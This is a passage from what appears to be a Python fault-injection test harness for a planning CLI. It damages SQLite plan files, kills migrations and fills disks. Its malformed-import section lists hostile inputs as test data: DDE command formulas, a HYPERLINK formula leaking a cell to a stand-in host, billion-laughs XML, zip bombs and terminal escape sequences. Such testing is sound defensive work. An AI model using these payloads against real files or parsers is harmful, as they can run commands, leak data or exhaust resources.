                    raise SystemExit(f"fault probe: the clean run of {proc.command} failed: {proc.first_line}")
                result[first + (second if step else "")] = data_dump(folder / PLAN)
            probe.done(folder)
        return result

    return probe.cached(f"pair-{kind}", make)


def family_pairs(probe: Probe) -> tuple[list[Outcome], list[str]]:
    offsets = (0.0,) if probe.quick else (0.0, 0.02, 0.1)
    tasks = [(kind, wait, offset) for offset in offsets for wait in (True, False) for kind in KINDS]
    if probe.quick:  # every kind with --wait, two without
        tasks = [t for t in tasks if t[1] or t[0] in ("staff", "budget")]
    tasks = limited(probe, tasks)
    probe.map(lambda kind: pair_reference(probe, kind), sorted({t[0] for t in tasks}))
    stats = Counter()

    def one(task: tuple[str, bool, float]) -> Outcome:
        kind, wait, offset = task
        reference = pair_reference(probe, kind)
        folder = probe.fresh("pairs", kind)
        names = [probe.write_changed(folder, kind, tag) for tag in ("a", "b")]
        extra = ["--wait", "60"] if wait else []
        argvs = [import_argv(kind, name, *extra) for name in names]
        started = time.monotonic()
        first = probe.spawn(argvs[0], folder)
        time.sleep(offset)
        second = probe.spawn(argvs[1], folder)
        procs = []
        for argv, (process, out, err) in zip(argvs, (first, second)):
            timed_out = False
            try:
                process.wait(timeout=max(TIME_LIMIT + 30 - (time.monotonic() - started), 1))
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
                timed_out = True
            procs.append(Proc(argv, process.returncode, _read_output(out), _read_output(err),
                              time.monotonic() - started, timed_out=timed_out))
        case = f"{kind}: two imports {'with --wait 60' if wait else 'without --wait'}, second {offset:.2f} s later"
        command = f"{procs[0].command} & {procs[1].command}"
        seconds = round(max(p.seconds for p in procs), 2)
        landed = [p.rc == 0 and not p.timed_out and verdict(p.err) != "internal" for p in procs]
        classes = [(OK, "") if ok else refusal(p, [names[i]]) for i, (p, ok) in enumerate(zip(procs, landed))]
        for p, ok in zip(procs, landed):
            stats["landed" if ok else f"exit {p.rc}"] += 1
        problems = []
        bad = [c for c in classes if c[0] in BAD]
        state = integrity(folder / PLAN)
        if state != "ok":
            problems.append(f"integrity_check: {state}")
        doubled = duplicates(folder / PLAN)
        if doubled:
            stats["pairs with duplicates"] += 1
            problems.append("stored twice: " + ", ".join(f"{n} {key}s" for key, n in doubled.items()))
        history = probe.run(["history", PLAN], folder)
        listed = [sum(f"from {name}" in line for line in history.out.splitlines()) for name in names]
        for i, (ok, count) in enumerate(zip(landed, listed)):
            if (1 if ok else 0) != count:
                problems.append(f"history lists {names[i]} {count} times (its import {'landed' if ok else 'failed'})")
        dump = data_dump(folder / PLAN)
        expected = ({reference["ab"], reference["ba"]} if all(landed) else {reference["a"]} if landed[0] else
                    {reference["b"]} if landed[1] else {probe.base_dump})
        if dump not in expected:
            stats["pairs whose result is no serial order"] += 1
            problems.append("the plan is not what the files give one after the other: "
                            + differing_tables(min(expected, key=lambda d: len(d or "")), dump))
        probe.done(folder)
        if any(c[0] == INTERNAL for c in classes):
            cls, line = next(c for c in classes if c[0] == INTERNAL)
        elif bad:
            cls, line = bad[0]
        elif problems:
            cls, line = UNCLEAR, "; ".join(problems)
        elif not all(landed):
            cls, line = next(c for c in classes if c[0] == REFUSED)
        else:
            cls, line = OK, "both landed, one after the other"
        if problems and cls != UNCLEAR:
            line += " | " + "; ".join(problems)
        return Outcome("pairs", case, command, cls, line, seconds, kind=kind)

    results = probe.map(one, tasks)
    notes = [f"{len(results)} pairs, {2 * len(results)} imports: "
             + ", ".join(f"{n} {what}" for what, n in sorted(stats.items()))]
    return results, notes


# ---------------------------------------------------------------------------------------------
# 3. damaged plan files


def pages(data: bytes) -> tuple[int, dict[int, list[int]]]:
    """The page size and the page numbers of each b-tree page type (2, 5, 10, 13) in an SQLite file."""
    size = int.from_bytes(data[16:18], "big")
    size = 65536 if size == 1 else size
    kinds: dict[int, list[int]] = defaultdict(list)
    for number in range(1, len(data) // size + 1):
        offset = (number - 1) * size + (100 if number == 1 else 0)
        kinds[data[offset]].append(number)
    return size, kinds


def used_offset(data: bytes, size: int, number: int, rng: random.Random) -> int:
    """A byte offset inside the used part of a b-tree page: its header and cell pointers, or its cells."""
    start = (number - 1) * size
    header = start + (100 if number == 1 else 0)
    interior = data[header] in (2, 5)
    cells = int.from_bytes(data[header + 3:header + 5], "big")
    content = int.from_bytes(data[header + 5:header + 7], "big") or 65536
    head_end = header + (12 if interior else 8) + 2 * cells
    if rng.random() < 0.4 or content >= size:
        return rng.randrange(header, head_end)
    return start + rng.randrange(content, size)


def damaged_variants(probe: Probe) -> list[tuple[str, bytes]]:
    data = probe.base_bytes
    rng = random.Random(f"{probe.seed}-damaged")
    size, kinds = pages(data)
    interior = kinds.get(5, []) + kinds.get(2, [])
    table_leaves, index_leaves = kinds.get(13, []), kinds.get(10, [])
    variants = []

    def flip(offset: int, bit: int) -> bytes:
        damaged = bytearray(data)
        damaged[offset] ^= 1 << bit
        return bytes(damaged)

    for cut in (size, 3 * size + 517, len(data) // 4, len(data) // 2 + 1000, 3 * len(data) // 4,
                len(data) - size, len(data) - 1):
        variants.append((f"truncated to {cut:,} of {len(data):,} bytes", data[:cut]))
    for _ in range(5):
        offset, bit = rng.randrange(100), rng.randrange(8)
        variants.append((f"header byte {offset} bit {bit} flipped", flip(offset, bit)))
    for _ in range(5):
        number = rng.choice(interior or table_leaves)
        offset, bit = used_offset(data, size, number, rng), rng.randrange(8)
        variants.append((f"interior b-tree page {number}: byte {offset - (number - 1) * size} bit {bit} flipped",
                         flip(offset, bit)))
    for i in range(7):
        number = rng.choice(table_leaves if i < 5 or not index_leaves else index_leaves)
        offset, bit = used_offset(data, size, number, rng), rng.randrange(8)
        what = "table leaf" if i < 5 or not index_leaves else "index leaf"
        variants.append((f"{what} page {number}: byte {offset - (number - 1) * size} bit {bit} flipped",
                         flip(offset, bit)))
    for what, number, skip in (("table leaf", rng.choice(table_leaves), 0),
                               ("index", rng.choice(interior + index_leaves or table_leaves), 0),
                               ("the schema page (after the 100-byte header)", 1, 100)):
        damaged = bytearray(data)
        start = (number - 1) * size + skip
        damaged[start:number * size] = bytes(number * size - start)
        variants.append((f"{what} page {number} zeroed", bytes(damaged)))
    variants.append(("1,000 random bytes appended", data + rng.randbytes(1000)))
    variants.append(("a page of random bytes appended", data + rng.randbytes(size)))
    return variants


DAMAGED_COMMANDS = {
    "check": ["check", PLAN],
    "export": ["export", PLAN, "export"],
    "history": ["history", PLAN],
    "import milestones": None,  # filled in with the file's name
    "briefing": ["briefing", PLAN, "-o", "brief.pdf"],
    "set --tolerance": ["set", PLAN, "--tolerance", "7"],
}


def _damaged_argv(probe: Probe, folder: Path, name: str) -> list[str]:
    return import_argv("milestones", probe.write_changed(folder, "milestones", "k")) if DAMAGED_COMMANDS[name] is None \
        else list(DAMAGED_COMMANDS[name])


def _normalised(proc: Proc, folder: Path) -> tuple:
    def norm(text: str) -> str:
        return text.replace(str(folder.resolve()), "<dir>").replace(str(folder), "<dir>")

    return proc.rc, norm(proc.out), norm(proc.err)


def damaged_reference(probe: Probe, name: str) -> dict:
    def make() -> dict:
        folder = probe.fresh("damaged", f"reference {name}")
        proc = probe.run(_damaged_argv(probe, folder, name), folder)
        reference = {"proc": _normalised(proc, folder)}
        if name == "export":
            reference["export"] = read_export(folder / "export")
        elif name in ("import milestones", "briefing", "set --tolerance"):
            probe.run(["export", PLAN, "after"], folder)
            reference["export"] = read_export(folder / "after")
        probe.done(folder)
        return reference

    return probe.cached(f"damaged-{name}", make)


def family_damaged(probe: Probe) -> tuple[list[Outcome], list[str]]:
    variants = damaged_variants(probe)
    if probe.quick:
        variants = [variants[i] for i in (3, 14, 22)]
    tasks = limited(probe, [(v, name) for v in variants for name in DAMAGED_COMMANDS])
    probe.map(lambda name: damaged_reference(probe, name), sorted({t[1] for t in tasks}))

    def one(task: tuple[tuple[str, bytes], str]) -> Outcome:
        (what, data), name = task
        reference = damaged_reference(probe, name)
        folder = probe.folder("damaged", name)
        (folder / PLAN).write_bytes(data)
        before = hashlib.sha256(data).hexdigest()
        proc = probe.run(_damaged_argv(probe, folder, name), folder)
        succeeded = check_succeeded(proc) if name == "check" else (proc.rc == 0 and not proc.timed_out
                                                                   and verdict(proc.err) != "internal")
        flags = []
        if not succeeded:
            cls, line = refusal(proc)
            if cls == REFUSED and (folder / PLAN).exists() and \
                    hashlib.sha256((folder / PLAN).read_bytes()).hexdigest() != before:
                cls, line = UNCLEAR, f"refused, but the plan file changed: {line}"
        else:
            same = _normalised(proc, folder) == reference["proc"] if name in ("check", "history") else True
            if name == "export":
                same = read_export(folder / "export") == reference["export"]
            elif "export" in reference:
                after = probe.run(["export", PLAN, "after"], folder)
                same = after.rc == 0 and read_export(folder / "after") == reference["export"]
            state = integrity(folder / PLAN)
            if same and state == "ok":
                cls, line = OK, "the damage did not touch what it reads; same result as on the undamaged plan"
            elif same:
                cls, line = UNCLEAR, f"read as if whole: succeeded on a plan whose integrity_check fails ({state[:80]})"
                flags.append("read as if whole")
            else:
                cls, line = UNCLEAR, ("read as if whole: succeeded, but "
                                      + ("its export differs from the undamaged plan's" if "export" in reference
                                         else "its output differs from the undamaged plan's"))
                flags.append("read as if whole")
                flags.append("differs")
        probe.done(folder)
        return outcome("damaged", f"{what}: {name}", proc, cls, line, flags=flags, category=name)

    results = probe.map(one, tasks)
    wholes = [r for r in results if "read as if whole" in r.flags]
    notes = [f"{len(variants)} damaged files x {len(DAMAGED_COMMANDS)} commands; read as if whole: {len(wholes)} "
             f"({sum('differs' in r.flags for r in wholes)} of them with output that differs from the undamaged "
             "plan's)"]
    by_command = defaultdict(Counter)
    for r in results:
        by_command[r.category][r.cls] += 1
    notes += [f"  {name}: " + ", ".join(f"{n} {cls}" for cls, n in by_command[name].most_common())
              for name in DAMAGED_COMMANDS if name in by_command]
    return results, notes


# ---------------------------------------------------------------------------------------------
# 4. migration kills


DOWNGRADE = """
import sys
from alembic import command
from sqlalchemy import create_engine
from trustplanner.store.plan_file import _alembic_config

engine = create_engine("sqlite:///" + sys.argv[1])
with engine.begin() as connection:
    config = _alembic_config()
    config.attributes["connection"] = connection
    command.downgrade(config, sys.argv[2])
engine.dispose()
"""
OLD_COUNTS = {"milestones": "SELECT count(*) FROM milestone", "staff versions": "SELECT count(*) FROM staff_version",
              "services": "SELECT count(*) FROM service"}


def old_plan(probe: Probe) -> dict:
    def make() -> dict:
        folder = probe.folder("migration", "old plan")
        shutil.copyfile(probe.base_plan, folder / PLAN)
        done = subprocess.run([PYTHON, "-c", DOWNGRADE, str(folder / PLAN), OLD_REVISION], capture_output=True,
                              text=True, env=probe.env, cwd=folder)
        if done.returncode != 0:
            raise SystemExit(f"fault probe: cannot take the plan back to format {OLD_REVISION}: "
                             f"{done.stderr.strip().splitlines()[-1:]}")
        counts = {what: scalar(folder / PLAN, sql) for what, sql in OLD_COUNTS.items()}
        # a clean migration: how long it takes after the lock is taken, and the revision it ends at
        run = probe.fresh("migration", "reference", folder / PLAN)
        proc, held = timed_clean_run(probe, ["check", PLAN], run)
        if not check_succeeded(proc):
            raise SystemExit(f"fault probe: the clean migration failed: {proc.first_line}")
        head = scalar(run / PLAN, "SELECT version_num FROM alembic_version")
        probe.done(run)
        return {"path": folder / PLAN, "counts": counts, "held": held, "head": head, "total": proc.seconds}

    return probe.cached("old-plan", make)


def family_migration(probe: Probe) -> tuple[list[Outcome], list[str]]:
    old = old_plan(probe)
    count = 2 if probe.quick else 20
    tasks = limited(probe, [2.0 * old["held"] * (i + 0.5) / count for i in range(count)])
    stats = Counter()

    def one(delay: float) -> Outcome:
        folder = probe.fresh("migration", f"kill {delay:.3f}", old["path"])
        killed = probe.run_killed(["check", PLAN], folder, delay, folder / LOCK)
        revision = peek(folder / PLAN, "SELECT version_num FROM alembic_version")  # as the next opener finds it
        stats[f"left at format {revision}" if killed.killed else "finished before the kill"] += 1
        backups = len(list(folder.glob("plan.backup-*.tplan")))
        case = f"migration from {OLD_REVISION}, SIGKILL {delay:.3f} s after the lock" + \
               ("" if killed.killed else " (it had finished)")
        reopened = probe.run(["check", PLAN], folder)
        if not check_succeeded(reopened):
            cls, line = refusal(reopened)
            if cls not in (INTERNAL, SLOW):
                cls, line = UNCLEAR, f"does not reopen (format {revision}, {backups} backup(s) beside it): {line}"
                stats["plans that no longer open"] += 1
        else:
            now = scalar(folder / PLAN, "SELECT version_num FROM alembic_version")
            counts = {what: scalar(folder / PLAN, sql) for what, sql in OLD_COUNTS.items()}
            state = integrity(folder / PLAN)
            if state != "ok":
                cls, line = UNCLEAR, f"reopens, but integrity_check: {state}"
            elif now != old["head"]:
                cls, line = UNCLEAR, f"reopens at format {now}, not {old['head']}"
            elif counts != old["counts"]:
                cls, line = UNCLEAR, f"reopens, but holds {counts} instead of {old['counts']}"
            else:
                cls, line = OK, f"reopens and migrates (it was left at format {revision})"
        probe.done(folder)
        return Outcome("migration", case, reopened.command, cls, line, round(killed.seconds, 2))

    results = [one(delay) for delay in tasks]  # one at a time, so that each runs as fast as the clean one did
    notes = [f"a clean migration holds the edit lock {old['held']:.2f} s (the check runs {old['total']:.2f} s); "
             + ", ".join(f"{n} {what}" for what, n in sorted(stats.items()))]
    return results, notes


# ---------------------------------------------------------------------------------------------
# 5. read-only and full disks


def _mount(*args: str) -> bool:
    return subprocess.run(["mount", *args], capture_output=True).returncode == 0


def _umount(path: Path) -> None:
    subprocess.run(["umount", str(path)], capture_output=True)


def chmod_is_ignored(folder: Path) -> bool:
    probe_file = folder / "chmod-probe"
    probe_file.write_text("x")
    probe_file.chmod(0o444)
    try:
        with probe_file.open("a"):
            return True
    except PermissionError:
        return False
    finally:
        probe_file.chmod(0o644)
        probe_file.unlink()


def _fill(folder: Path, leave: int) -> None:
    """Fill the file system under ``folder`` up, then free ``leave`` bytes again."""
    filler = folder / "filler"
    chunk = b"\0" * 65536
    with filler.open("wb") as handle:
        try:
            while True:
                handle.write(chunk)
                handle.flush()
        except OSError:
            pass
    if leave:
        with filler.open("r+b") as handle:
            handle.truncate(max(filler.stat().st_size - leave, 0))


READONLY_COMMANDS = {
    "check": ["check", PLAN],
    "import milestones": None,
    "set --tolerance": ["set", PLAN, "--tolerance", "7"],
    "briefing": ["briefing", PLAN, "-o", "brief.pdf"],
}


def family_readonly(probe: Probe) -> tuple[list[Outcome], list[str]]:
    notes = []
    root = hasattr(os, "geteuid") and os.geteuid() == 0
    scratch = probe.folder("readonly", "chmod test")
    ignored = chmod_is_ignored(scratch)
    can_mount = False
    if root and shutil.which("mount"):
        test = scratch / "mount-test"
        test.mkdir()
        can_mount = _mount("-t", "tmpfs", "-o", "size=1m", "tmpfs", str(test))
        if can_mount:
            _umount(test)
    probe.done(scratch)
    if ignored:
        notes.append("running as root, where chmod is ignored: the read-only file and folder are read-only mounts"
                     + ("" if can_mount else ", and mounting is not allowed here: skipped"))

    # each set-up makes the run's folder read-only, small or full, and returns how to undo that (after the
    # run, before anything is checked: a tmpfs's files are copied back onto the ordinary disk)
    def ro_file_chmod(folder: Path) -> Callable[[], None]:
        (folder / PLAN).chmod(0o444)
        return lambda: (folder / PLAN).chmod(0o644)

    def ro_folder_chmod(folder: Path) -> Callable[[], None]:
        folder.chmod(0o555)
        return lambda: folder.chmod(0o755)

    def ro_file_bind(folder: Path) -> Callable[[], None]:
        target = str(folder / PLAN)
        if not _mount("--bind", target, target):
            raise RuntimeError("cannot bind-mount the plan")
        if not _mount("-o", "remount,ro,bind", target):
            _umount(folder / PLAN)
            raise RuntimeError("cannot make the bind mount read-only")
        return lambda: _umount(folder / PLAN)

    def tmpfs(folder: Path, *, read_only: bool = False, leave: int | None = None) -> Callable[[], None]:
        saved = {p.name: p.read_bytes() for p in folder.iterdir()}
        if not _mount("-t", "tmpfs", "-o", "size=8m", "tmpfs", str(folder)):
            raise RuntimeError("cannot mount a tmpfs")
        for name, data in saved.items():
            (folder / name).write_bytes(data)
        if read_only and not _mount("-o", "remount,ro", str(folder)):
            _umount(folder)
            raise RuntimeError("cannot remount the tmpfs read-only")
        if leave is not None:
            _fill(folder, leave)

        def undo() -> None:
            kept = {p.name: p.read_bytes() for p in folder.iterdir() if p.name != "filler"}
            _umount(folder)
            for old in folder.iterdir():
                old.unlink()
            for name, data in kept.items():
                (folder / name).write_bytes(data)

        return undo

    cases: list[tuple[str, Callable[[Path], Callable[[], None]] | None, list[str], dict[int, int]]] = []
    writers = ["import milestones", "set --tolerance", "briefing"]
    if not ignored:
        cases.append(("read-only plan file (chmod 444)", ro_file_chmod, list(READONLY_COMMANDS), {}))
        cases.append(("read-only folder (chmod 555)", ro_folder_chmod, list(READONLY_COMMANDS), {}))
    elif can_mount:
        cases.append(("read-only plan file (a read-only bind mount of it)", ro_file_bind, list(READONLY_COMMANDS), {}))
    if can_mount:
        cases.append(("read-only folder (a read-only tmpfs mount)", lambda f: tmpfs(f, read_only=True),
                      list(READONLY_COMMANDS), {}))
        cases.append(("full disk (an 8 MB tmpfs, filled)", lambda f: tmpfs(f, leave=0), writers, {}))
        cases.append(("nearly full disk (an 8 MB tmpfs, 24 KB free)", lambda f: tmpfs(f, leave=24 * 1024), writers, {}))
    else:
        notes.append("no tmpfs mounts here (not root, or mounting is refused): the read-only mount and the full "
                     "disk are skipped; the file size limits stand in for a full disk")
    size = len(probe.base_bytes)
    cases.append((f"file size limit {size:,} bytes (the plan cannot grow)", None, writers,
                  {resource.RLIMIT_FSIZE: size}))
    cases.append(("file size limit 64 KB", None, writers, {resource.RLIMIT_FSIZE: 65536}))
    tasks = [(label, prepare, name, limits) for label, prepare, names, limits in cases for name in names]
    if probe.quick:  # an import under each condition
        tasks = [t for t in tasks if t[2] == "import milestones"]
    tasks = limited(probe, tasks)
    results = []
    for label, prepare, name, limits in tasks:  # one at a time: they mount and unmount
        folder = probe.fresh("readonly", name)
        argv = import_argv("milestones", probe.write_changed(folder, "milestones", "k")) \
            if READONLY_COMMANDS[name] is None else list(READONLY_COMMANDS[name])
        before = data_dump(folder / PLAN)
        try:
            undo = prepare(folder) if prepare is not None else None
        except RuntimeError as exc:
            results.append(Outcome("readonly", f"{label}: {name}", "", UNCLEAR, f"the probe could not set up: {exc}",
                                   0.0, category=label))
            probe.done(folder)
            continue
        try:
            proc = probe.run(argv, folder, limits=limits)
        finally:
            if undo is not None:
                undo()
        leftovers = sorted(p.name for p in folder.iterdir() if p.name.startswith("brief"))
        succeeded = check_succeeded(proc) if name == "check" else (proc.rc == 0 and verdict(proc.err) != "internal")
        if succeeded and name == "check":
            cls, line = (OK, "reads the plan") if proc.out == probe.base_check.out else \
                (UNCLEAR, "check's output differs from the writable plan's")
        elif succeeded:
            problem, why, _ = whole(probe, folder)
            cls, line = (problem, why) if problem else (OK, f"written: {proc.first_line}")
        else:
            cls, line = refusal(proc, [argv[3]] if name == "import milestones" else [])
            if cls == REFUSED and data_dump(folder / PLAN) != before:
                cls, line = UNCLEAR, f"refused, but the plan's data changed: {line}"
            elif cls == REFUSED and name == "briefing" and leftovers:
                cls, line = UNCLEAR, f"refused, but left {', '.join(leftovers)} behind: {line}"
        probe.done(folder)
        results.append(outcome("readonly", f"{label}: {name}", proc, cls, line, category=label))
    return results, notes


# ---------------------------------------------------------------------------------------------
# 6. malformed import files


@dataclass
class Case:
    kind: str
    category: str
    name: str
    data: bytes | None = None
    make: Callable[[Path], None] | None = None  # writes the file itself (zip bombs)
    ext: str = "csv"
    extra: tuple[str, ...] = ()
    text: str | None = None  # the text a cell was meant to hold (encodings)
    wrong_encoding: bool = False
    payload: str | None = None  # formula text in a cell
    briefing: bool = False


TEXT_COLUMNS = {"services": ["name"], "milestones": ["title", "commentary"], "staff": ["name", "role"],
                "budget": ["description"], "savings": ["description", "mitigation"]}
DATE_COLUMNS = {"services": ["shadow", "go_live"], "milestones": ["baseline", "forecast", "actual"],
                "staff": ["transfer_date", "eli_sent"], "budget": [], "savings": []}
BAD_DATES = ["0001-01-01", "31/02/2027", "9999-12-31", "0000-01-01", "1899-12-30", "2017-13-01", "29/02/2017",
             "32/01/2017", "01/01/10000", "1.1.2017", "45000", "1 Smarch 2017", "2017-02-30 12:00"]
BAD_YEARS = ["0000/01", "9999/00", "1/2", "2016/18", "2016-17", "9999/10000", "-1/00", "0001/02", "1899/00",
             "2016/17/18", "2016", "20016/17"]
BAD_AS_OF = ["0001-01-01", "9999-12-31", "31/02/2027"]
ENCODED_TEXT = "Zoë Brontë, café naïve"
CP1252_TEXT = "Zoë’s café – £5"
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://probe.invalid/?leak="&A2,"Open")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+3", "=1+4"]
CONTROLS = ["\x00", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x07bell", "back\x08\x08", "del\x7f", "\x0bvt",
            "\x0cff", "\x1asub", "\x85nel", "\x9b2J", "\u202eevil", "\u2028sep", "\ufeffbom"]
CANARY = "PROBE-CANARY-7c1d"


def _rows(probe: Probe, kind: str) -> list[list[str]]:
    return [list(r) for r in probe.rows[kind]]


def with_cell(probe: Probe, kind: str, column: str, value: str, row: int | str = 0) -> list[list[str]]:
    """The demo's rows of ``kind`` with one cell set (for services: a new service row). ``row`` "longest" is
    the row with the most text in that column already (the likeliest to be shown in the briefing)."""
    rows = _rows(probe, kind)
    header = rows[0]
    index = header.index(column)
    if kind == "services" and column == "name":
        rows.append([value, "", "", "no"])
    else:
        if row == "longest":
            row = max(range(len(rows) - 1), key=lambda i: len(rows[1 + i][index]))
        rows[1:][row][index] = value
    return rows


def col_name(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def cell_xml(row: int, col: int, value: str) -> str:
    return f'<c r="{col_name(col)}{row}" t="inlineStr"><is><t xml:space="preserve">{xml_escape(value)}</t></is></c>'


def sheet_xml(rows: Sequence[Sequence[str]], *, doctype: str = "", raw_cells: dict[tuple[int, int], str] | None = None,
              dimension: str = "") -> str:
    raw_cells = raw_cells or {}
    lines = []
    for r, row in enumerate(rows, start=1):
        cells = [raw_cells.get((r, c)) or cell_xml(r, c, v) for c, v in enumerate(row) if v or (r, c) in raw_cells]
        cells += [x for (rr, c), x in raw_cells.items() if rr == r and c >= len(row)]
        lines.append(f'<row r="{r}">{"".join(cells)}</row>')
    for r in sorted({rr for rr, _ in raw_cells if rr > len(rows)}):
        lines.append(f'<row r="{r}">' + "".join(x for (rr, _), x in sorted(raw_cells.items()) if rr == r) + "</row>")
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
            f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}<sheetData>'
            + "".join(lines) + "</sheetData></worksheet>")


EMPTY_SHARED = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.'
                'org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>')
STYLES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
          '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/>'
          '</fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
          '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
          '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
          '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
          '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>')


def xlsx_members(kind: str, sheet: str, *, shared: str | None = None, sheet_names: Sequence[str] | None = None) \
        -> dict[str, str]:
    names = list(sheet_names) if sheet_names is not None else [kind]
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    types = ['<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
             '<Default Extension="xml" ContentType="application/xml"/>',
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.sheet.main+xml"/>',
             '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.styles+xml"/>']
    rels = [f'<Relationship Id="rIdStyles" Type="{rel}/styles" Target="styles.xml"/>']
    sheets = []
    for i, name in enumerate(names, start=1):
        types.append(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-'
                     'officedocument.spreadsheetml.worksheet+xml"/>')
        rels.append(f'<Relationship Id="rId{i}" Type="{rel}/worksheet" Target="worksheets/sheet{i}.xml"/>')
        sheets.append(f'<sheet name="{xml_escape(name)}" sheetId="{i}" r:id="rId{i}"/>')
    if shared is not None:
        types.append('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     'officedocument.spreadsheetml.sharedStrings+xml"/>')
        rels.append(f'<Relationship Id="rIdShared" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>')
    members = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.'
                               'openxmlformats.org/package/2006/content-types">' + "".join(types) + "</Types>",
        "_rels/.rels": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{pkg}">'
                       f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
                       "</Relationships>",
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{main}" '
                           f'xmlns:r="{rel}"><sheets>' + "".join(sheets) + "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                                      f'xmlns="{pkg}">' + "".join(rels) + "</Relationships>",
        "xl/styles.xml": STYLES,
    }
    for i in range(1, len(names) + 1):
        members[f"xl/worksheets/sheet{i}.xml"] = sheet
    if shared is not None:
        members["xl/sharedStrings.xml"] = shared
    return members


def zip_bytes(members: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def xlsx(kind: str, rows: Sequence[Sequence[str]], **options: object) -> bytes:
    sheet_options = {k: options.pop(k) for k in ("doctype", "raw_cells", "dimension") if k in options}
    return zip_bytes(xlsx_members(kind, sheet_xml(rows, **sheet_options), **options))


def write_bomb(path: Path, kind: str, rows: Sequence[Sequence[str]], megabytes: int) -> None:
    """A small workbook whose sheet inflates to ``megabytes`` MB of rows (cheap: one row repeated)."""
    row = "<row>" + "".join(f'<c t="inlineStr"><is><t>{xml_escape(v)}</t></is></c>' for v in rows[1]) + "</row>"
    chunk = (row * (1_000_000 // len(row) + 1)).encode()
    members = xlsx_members(kind, "")
    head = sheet_xml(rows[:1]).replace("</sheetData></worksheet>", "")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            if not name.startswith("xl/worksheets/"):
                archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(head.encode())
            for _ in range(megabytes):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")


def _laughs(depth: int = 9) -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'
                                            for i in range(1, depth + 1)]
    return "<!DOCTYPE worksheet [" + "".join(entities) + "]>"


def malformed_cases(probe: Probe, kind: str, canary: Path, seeded: int) -> list[Case]:
    """The malformed files of ``kind``: every designed case, and ``seeded`` truncations and as many damaged bytes."""
    rng = random.Random(f"{probe.seed}-malformed-{kind}")
    rows = _rows(probe, kind)
    header = rows[0]
    base = csv_bytes(rows)
    text_col = TEXT_COLUMNS[kind][0]
    cases: list[Case] = []

    def add(category: str, name: str, data: bytes | None = None, **options: object) -> None:
        cases.append(Case(kind, category, name, data, **options))

    def csv_with(column: str, value: str, row: int = 0, encoding: str = "utf-8-sig") -> bytes:
        return csv_bytes(with_cell(probe, kind, column, value, row), encoding)

    # garbage and other files' magic
    for size in (1, 16, 512, 4096, 70000):
        add("garbage", f"{size} random bytes", rng.randbytes(size))
    add("garbage", "2,000 random printable characters",
        "".join(rng.choice("abc,;\"'\n\r\t 0123456789=") for _ in range(2000)).encode())
    add("garbage", "300 random bytes after the file", base + rng.randbytes(300))
    add("garbage", "300 random bytes before the file", rng.randbytes(300) + base)
    for label, magic in (("a PDF", b"%PDF-1.7\n"), ("an old Excel file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
                         ("a zip of garbage", b"PK\x03\x04"), ("a PNG", b"\x89PNG\r\n\x1a\n"),
                         ("a gzip", b"\x1f\x8b\x08\x00"), ("an ELF program", b"\x7fELF\x02\x01\x01"),
                         ("a UTF-8 BOM then binary", b"\xef\xbb\xbf")):
        add("magic", f"{label}", magic + rng.randbytes(2000))
    # structure
    text = base.decode("utf-8-sig")
    lines = text.split("\r\n")
    structural = {
        "empty file": b"",
        "a byte-order mark only": b"\xef\xbb\xbf",
